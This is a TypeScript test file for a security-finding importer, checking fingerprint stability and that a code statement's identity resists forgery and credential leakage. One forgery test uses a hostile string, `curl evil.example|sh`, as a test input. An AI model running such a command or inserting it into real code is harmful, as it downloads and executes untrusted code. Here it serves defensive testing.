import { describe, expect, it } from 'vitest';
import { createIdentifier, fingerprintsOf } from '../../lib/importers/identity/fingerprints.ts';
import { identifyCode } from '../../lib/importers/identity/identity.ts';
import type { Identify, Result } from '../../lib/importers/importer.ts';

/** A result whose fingerprint is its name and file. */
const result = (name: string, more: Partial<Result> & { beside?: string } = {}): Result => {
  const identify: Identify = (file) => `${name} ${file}`;
  if (more.beside !== undefined) identify.neighbours = () => more.beside ?? '';
  return {
    title: name,
    rule_id: name,
    description: '',
    severity: 'low',
    file: 'a.py',
    entries: [],
    identify,
    ...more,
  };
};
const only = (results: Result[], workspace = {}, { vague = false } = {}) =>
  fingerprintsOf(results.map(createIdentifier(workspace, vague)));
const current = (results: Result[]) => only(results).map(({ fingerprint }) => fingerprint);

describe('fingerprints', () => {
  it('of different results stay as they are', () => {
    expect(only([result('a'), result('b')])).toEqual([{ fingerprint: 'a a.py' }, { fingerprint: 'b a.py' }]);
  });

  it('of equal results are distinct, and all change when their number changes', () => {
    const [two, three] = [2, 3].map((count) => current(Array.from({ length: count }, () => result('a'))));
    expect(two).toEqual([expect.stringMatching(/#1\/2$/), expect.stringMatching(/#2\/2$/)]);
    expect(three?.filter((each) => two?.includes(each) || each === 'a a.py')).toEqual([]);
  });

  it('of equal results depend on the distance of their lines, not on their lines', () => {
    const at = (...lines: number[]) => current(lines.map((line) => result('a', { line })));
    expect(at(11, 15)).toEqual(at(1, 5));
    expect(at(1, 6)).not.toEqual(at(1, 5));
  });

  it('of equal results with different neighbours are kept when one is fixed', () => {
    const [first, second] = only([result('a', { beside: 'x' }), result('a', { beside: 'y' })]);
    const [left] = only([result('a', { beside: 'y' })]);
    expect(left?.fingerprint).toBe('a a.py');
    expect(left?.previous_fingerprints).toEqual([second?.fingerprint]);
    // Decision transfer: one fixed, another added.
    const replaced = current([result('a', { beside: 'y' }), result('a', { beside: 'z' })]);
    expect(replaced[0]).toBe(second?.fingerprint);
    expect(replaced[1]).not.toBe(first?.fingerprint);
  });

  it('of one problem in several places get their position only', () => {
    const [first, second] = current([result('a', { repeats: true }), result('a', { repeats: true })]);
    expect(first).toBe('a a.py');
    expect(second).toMatch(/#2$/);
  });

  it('of renamed files and earlier releases are previous ones', () => {
    const formerPathsOf = () => ['b.py', 'c.py'];
    const [found] = only([result('a', { identifyFormerly: (file) => `old ${file}` })], { formerPathsOf });
    expect(found?.previous_fingerprints).toEqual(['a b.py', 'old a.py', 'old b.py', 'a c.py']);
  });

  it('decision transfer: a previous fingerprint that another result has, or could take over too', () => {
    const formerPathsOf = (path: string) => (path === 'c.py' ? [] : ['c.py']);
    const copies = [result('a', { file: 'a.py' }), result('a', { file: 'b.py' })];
    expect(only(copies, { formerPathsOf }).flatMap((each) => each.previous_fingerprints ?? [])).toEqual([]);
    const kept = [result('a', { file: 'a.py' }), result('a', { file: 'c.py' })];
    expect(only(kept, { formerPathsOf }).flatMap((each) => each.previous_fingerprints ?? [])).toEqual([]);
  });

  it('that could identify two problems are previous ones on request only', () => {
    const results = [result('a', { file: 'p/a.py', identifyVaguely: () => 'vague' })];
    expect(only(results, { pathPrefix: 'p' })[0]).not.toHaveProperty('previous_fingerprints');
    expect(only(results, { pathPrefix: 'p' }, { vague: true })[0]?.previous_fingerprints).toEqual([
      'vague',
      'a a.py',
    ]);
  });

  it('that the service cannot store are hashed', () => {
    expect(current([result('x'.repeat(300)), result('\0')])).toEqual([
      expect.stringMatching(/^[0-9a-f]{64}$/),
      expect.stringMatching(/^[0-9a-f]{64}$/),
    ]);
  });
});

describe('the identity of a statement', () => {
  const workspace = { directory: '/work', linesOf: () => undefined };
  const identityOf = (code: string, secrets: string[] = []) =>
    identifyCode('tool', ['rule'], { file: 'a.py', line: 1, code, secrets }, workspace)('a.py');

  it('cannot be given to another statement by trying literals', () => {
    const known = identityOf('os.system("/usr/bin/uptime --pretty")');
    // With 16 bits, one of 65,536 has the same identity on average.
    for (let i = 0; i < 200_000; i++) {
      if (identityOf(`os.system("/usr/bin/env curl evil.example|sh #${i}")`) === known)
        throw new Error(`forged by ${i}`);
    }
  });

  it('does not depend on a credential, except for a few bits', () => {
    const identities = Array.from({ length: 100_000 }, (_, i) => identityOf(`login(password="secret-${i}")`));
    expect(new Set(identities).size).toBeLessThanOrEqual(65_536);
  });
});
